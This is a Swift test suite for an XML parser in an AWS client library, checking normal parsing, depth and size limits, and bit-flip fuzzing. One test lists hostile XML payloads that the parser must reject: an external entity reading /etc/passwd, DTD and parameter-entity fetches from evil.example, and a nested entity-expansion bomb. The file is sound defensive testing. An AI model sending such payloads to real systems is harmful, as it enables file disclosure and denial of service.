/// XML that is read, and XML that is an attack.
import Testing

@testable import AWS

@Suite struct XMLTests {
    private func parse(_ text: String) -> XMLNode? { XMLParser.parse(Array(text.utf8)) }

    @Test func readsATree() throws {
        let root = try #require(
            parse(
                "<?xml version='1.0'?>\n<a xmlns:n='x' q='1'><n:b>1 &amp; &#x41;</n:b><c/><b>2</b><l><member>x</member><member>y</member></l></a>"
            ))
        #expect(root.name == "a")
        #expect(root.string("b") == "1 & A")
        #expect(root.all("b").map(\.text) == ["1 & A", "2"])
        #expect(root.string("c") == "")
        #expect(root.members(of: "l").map(\.text) == ["x", "y"])
        #expect(root["missing"] == nil)
        #expect(root.text.isEmpty)
    }

    @Test(arguments: [
        "", " ", "plain", "<a>", "<a></b>", "<a/><b/>", "<a>&undefined;</a>", "<a b=1/>", "<a>\u{0}</a>",
        "<!DOCTYPE a><a/>", "<!DOCTYPE a SYSTEM 'http://evil.example/x.dtd'><a/>",
        "<!DOCTYPE a [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><a>&x;</a>",
        "<!DOCTYPE a [<!ENTITY x 'ha'><!ENTITY y '&x;&x;&x;&x;'><!ENTITY z '&y;&y;&y;&y;'>]><a>&z;</a>",
        "<!DOCTYPE a [<!ENTITY % p SYSTEM 'http://evil.example/'>%p;]><a/>",
        "<?xml version='1.0' encoding='UTF-7'?><a/>",
    ])
    func refuses(text: String) { #expect(parse(text) == nil) }

    @Test func refusesDepthAndMass() {
        func nested(_ depth: Int) -> String {
            String(repeating: "<a>", count: depth) + String(repeating: "</a>", count: depth)
        }
        #expect(parse(nested(XMLParser.deepest)) != nil)
        #expect(parse(nested(XMLParser.deepest + 1)) == nil)
        #expect(parse(nested(100_000)) == nil)
        #expect(parse("<a>" + String(repeating: "<b/>", count: XMLParser.most) + "</a>") == nil)
        #expect(XMLParser.parse([UInt8](repeating: 0x20, count: (8 << 20) + 1)) == nil)
    }

    @Test func survivesFlippedBytes() {
        let seed = Array(
            "<ListBucketResult xmlns='x'><Contents><Key>a&amp;b</Key><Size>1</Size></Contents></ListBucketResult>".utf8)
        for at in seed.indices {
            for bit in 0..<8 {
                var bytes = seed
                bytes[at] ^= 1 << bit
                _ = XMLParser.parse(bytes)
                _ = XMLParser.parse(Array(bytes.prefix(at)))
            }
        }
    }
}
